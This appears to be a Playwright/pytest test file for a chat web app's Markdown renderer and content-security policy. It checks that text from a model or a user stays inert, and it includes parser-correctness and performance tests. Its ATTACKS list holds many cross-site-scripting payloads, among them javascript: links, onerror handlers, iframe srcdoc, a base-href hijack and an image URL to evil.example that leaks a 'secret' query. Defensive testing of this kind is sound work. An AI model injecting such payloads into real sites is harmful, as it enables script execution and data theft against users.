"""Whatever a model or a person writes stays text: no script, no picture from elsewhere, no link that acts."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Page, expect

from homing_server.local import Edge

from .conftest import Site
from .person import ask, replies, said

pytestmark = pytest.mark.browser

ATTACKS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg/onload=window.hacked=1><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>click</a> <style>* { display: none }</style>",
    "[click](javascript:window.hacked=1) [click](JaVaScRiPt:window.hacked=1) [click](  javascript:window.hacked=1)",
    "[click](java\tscript:window.hacked=1) [click](&#106;avascript:window.hacked=1) [click](data:text/html,<b>x)",
    "[click](vbscript:x) [click](//evil.example/x) [click](file:///etc/passwd) [click](blob:https://evil.example/1)",
    '![x](https://evil.example/leak.png?q=secret) ![x](javascript:window.hacked=1) ![x](x" onerror="window.hacked=1)',
    "[a](https://example.com/\"onmouseover=\"window.hacked=1) <https://example.com/'onclick='window.hacked=1>",
    "[<img src=x onerror=window.hacked=1>](https://example.com) `<img src=x onerror=window.hacked=1>`",
    '```"><img src=x onerror=window.hacked=1>\n<script>window.hacked=1</script>\n```',
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:1) |",
    "> <details open ontoggle=window.hacked=1>\n\n# <img src=x onerror=window.hacked=1>",
    "- <img src=x onerror=window.hacked=1>\n  1. <script>window.hacked=1</script>",
    "</div></article><script>window.hacked=1</script><base href='https://evil.example/'>",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <form action=https://evil.example><button>",
]
ALLOWED = {
    "A", "ARTICLE", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DETAILS", "DIV", "EM", "H3", "H4", "H5", "H6", "HR",
    "LI", "OL", "P", "PRE", "SPAN", "STRONG", "SUMMARY", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
}  # fmt: skip


def look(page: Page) -> dict[str, Any]:
    found: dict[str, Any] = page.evaluate(
        """() => ({
            hacked: window.hacked,
            tags: [...new Set([...document.querySelectorAll("#thread *, #list *")].map((one) => one.tagName))],
            handlers: [...document.querySelectorAll("*")].flatMap((one) =>
                one.getAttributeNames().filter((name) => /^(on|style|srcdoc|src$)/.test(name)
                    && !["SCRIPT"].includes(one.tagName)).map((name) => `${one.tagName} ${name}`)),
            links: [...document.querySelectorAll("#thread a")].map((one) => one.href),
        })"""
    )
    return found


def test_attacks_stay_text(page: Page, edge: Edge, site: Site) -> None:
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    edge.answer_with("\n\n".join(ATTACKS))
    ask(page, ATTACKS[0])  # the title, too
    ask(page, "\n".join(ATTACKS))
    for _ in range(2):
        seen = look(page)
        assert seen["hacked"] is None
        assert set(seen["tags"]) <= ALLOWED
        assert seen["handlers"] == []
        assert seen["links"]
        assert all(re.match(r"https://(example\.com|evil\.example)/", link) for link in seen["links"])
        assert "window.hacked = 1" in said(page)[0]
        assert "<script>window.hacked = 1</script>" in said(page)[1]
        page.reload()
        expect(replies(page)).to_have_count(2)
    # What may be clicked leads elsewhere in a new tab, or nowhere at all.
    for one in page.locator("#thread span", has_text="click").all():
        one.click()
    assert look(page)["hacked"] is None
    assert page.locator("h1").inner_text() == ATTACKS[0]
    assert all(url.startswith(site.workers[0]) for url in asked_for)


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
        "document.querySelector('#thread').innerHTML = '<img src=x onerror=window.hacked=1>'",
        "document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = 1' }))",
        "document.body.setAttribute('onclick', 'window.hacked = 1')",
    ],
)
def test_the_policy_would_stop_a_mistake_of_ours(browser: Browser, site: Site, attempt: str) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(site.workers[0])
        with pytest.raises(Error, match="requires 'Trusted"):
            page.evaluate(attempt)
        assert page.evaluate("window.hacked") is None


# -- the Markdown renderer, alone ----------------------------------------------------------------

DRAW = """async (texts) => {
    const { show } = await import("/static/markdown.js");
    const box = document.createElement("div");
    for (const text of texts) show(box, text);
    const html = (node) => node.nodeType === 3 ? node.data : `<${[node.localName,
        ...["href", "start", "data-language"].filter((name) => node.hasAttribute(name))
            .map((name) => `${name}=${node.getAttribute(name)}`)].join(" ")}>${inside(node)}</>`;
    const inside = (node) => [...node.childNodes].map(html).join("");
    return inside(box);
}"""


def draw(page: Page, *texts: str) -> str:
    drawn: str = page.evaluate(DRAW, list(texts))
    return drawn


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("", ""),
        ("One\ntwo\n\nthree", "<p>One\ntwo</><p>three</>"),
        ("a  \nb\\\nc", "<p>a  <br></>b<br></>c</>"),
        ("# A\n### B ###\n####### no", "<h3>A</><h5>B</><p>####### no</>"),
        ("**b** __b__ *i* _i_ ~~d~~", "<p><strong>b</> <strong>b</> <em>i</> <em>i</> <del>d</></>"),
        ("***both*** **a *b* c**", "<p><strong><em>both</></> <strong>a <em>b</> c</></>"),
        ("snake_case_name 2 * 3 * 4 ** 5 a*b*c", "<p>snake_case_name 2 * 3 * 4 ** 5 a<em>b</>c</>"),
        ("**open *and _never ~~closed `here", "<p>**open *and _never ~~closed `here</>"),
        ("\\*not\\* \\[x\\](y) \\q", "<p>*not* [x](y) \\q</>"),
        ("`a` ``b ` c`` `*x*`", "<p><code>a</> <code>b ` c</> <code>*x*</></>"),
        (
            "[x](https://a.b/c_(d)_e) <https://a.b> https://a.b/x_y_z).",
            "<p><a href=https://a.b/c_(d)_e>x</> "
            "<a href=https://a.b/>https://a.b</> <a href=https://a.b/x_y_z>https://a.b/x_y_z</>).</>",
        ),
        (
            "[**x** `y`](mailto:a@b.c) ![pic](https://a.b/p.png)",
            "<p><a href=mailto:a@b.c>**x** <code>y</></> <a href=https://a.b/p.png>pic</></>",
        ),
        ("- a\n- b\n\n  c\n- d", "<ul><li>a</><li><p>b</><p>c</></><li>d</></>"),
        ("3. a\n4. b\n   - c\n     - d\n5. e", "<ol start=3><li>a</><li>b<ul><li>c<ul><li>d</></></></></><li>e</></>"),
        ("- a\n  ```js\n  x  y\n  ```\nend", "<ul><li>a<pre data-language=js><code>x  y</></></></><p>end</>"),
        ("> a\n> > b\n>\n> - c\n\nd", "<blockquote><p>a</><blockquote><p>b</></><ul><li>c</></></><p>d</>"),
        ("```py\nif x:\n\n    y\n```\nz", "<pre data-language=py><code>if x:\n\n    y</></><p>z</>"),
        ("~~~\n```\n~~~", "<pre><code>```</></>"),
        ("```py\nstill being", "<pre data-language=py><code>still being</></>"),
        (
            "| a | b |\n|---|:-:|\n| 1 | *2* |\n| 3 |",
            "<div><table><thead><tr><th>a</><th>b</></></><tbody><tr><td>1</><td>"
            "<em>2</></></><tr><td>3</><td></></></></></>",
        ),
        ("a | b\nnot a table", "<p>a | b\nnot a table</>"),
        ("---\n***\n- - -", "<hr></><hr></><hr></>"),
        ("<b>&amp;</b> \u0000", "<p><b>&amp;</b> \ufffd</>"),
    ],
)
def test_markdown(shared: Page, text: str, drawn: str) -> None:
    assert draw(shared, text) == drawn


@pytest.mark.parametrize("text", [*ATTACKS, "- a\n  - b\n\n```x\ny\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n**x** y"])
def test_a_text_that_grows_ends_as_if_it_had_come_at_once(shared: Page, text: str) -> None:
    assert draw(shared, *(text[:size] for size in range(0, len(text) + 1, 3)), text) == draw(shared, text)


def test_what_is_as_it_was_keeps_its_nodes(shared: Page) -> None:
    kept = shared.evaluate(
        """async () => {
            const { show } = await import("/static/markdown.js");
            const box = document.createElement("div");
            show(box, "One\\n\\n- two\\n- three\\n\\nfou");
            const before = [...box.children];
            show(box, "One\\n\\n- two\\n- three\\n\\nfour");
            return before.map((node, place) => node === box.children[place]);
        }"""
    )
    assert kept == [True, True, False]


NONSENSE = ["[", "![", "*", "**a ", "_", "`", "``` ", "> ", "- ", "|", "<", "[a](", "\\", "~~", "http://"]


@pytest.mark.parametrize("piece", NONSENSE)
def test_long_nonsense_is_drawn(shared: Page, piece: str) -> None:
    # Quadratic time or a deep recursion would show as a page that does not answer, or as an error.
    assert draw(shared, piece * 5000)
    assert draw(shared, f"{piece}\n" * 2000) is not None
    assert draw(shared, "".join(f"{'  ' * depth}- x\n" for depth in range(200)))


@pytest.fixture(scope="module")
def shared(browser: Any, running: Site) -> Any:
    context = browser.new_context()
    page = context.new_page()
    page.goto(running.workers[0])
    yield page
    context.close()
